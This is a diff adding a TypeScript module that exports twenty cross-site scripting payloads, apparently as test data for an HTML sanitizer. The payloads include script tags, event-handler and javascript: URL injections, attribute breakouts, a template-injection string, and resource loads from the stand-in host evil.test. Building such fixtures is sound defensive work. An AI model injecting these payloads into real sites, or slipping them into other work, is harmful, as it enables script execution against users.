@@ -1,0 +1,23 @@
+/** Texts that run a script wherever they are taken for markup; none of them spans lines. */
+export const xssPayloads: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(2)>',
+  '<svg onload=alert(3)>',
+  '"><script>alert(4)</script>',
+  "'><img src=x onerror=alert(5)>",
+  '<iframe src="javascript:alert(6)"></iframe>',
+  '<a href="javascript:alert(7)">link</a>',
+  '<body onload=alert(8)>',
+  '<details open ontoggle=alert(9)>',
+  '<input autofocus onfocus=alert(10)>',
+  '<video><source onerror="alert(11)"></video>',
+  '<math><mtext></table><mglyph><style><img src=x onerror=alert(12)>',
+  '<template><script>alert(13)</script></template>',
+  '</title><script>alert(14)</script>',
+  '<style>@import "//evil.test/15";</style>',
+  '<link rel=stylesheet href=//evil.test/16>',
+  '<object data="javascript:alert(17)"></object>',
+  '{{constructor.constructor("alert(18)")()}}',
+  '<img src="//evil.test/19.png">',
+  'javascript:alert(20)',
+];
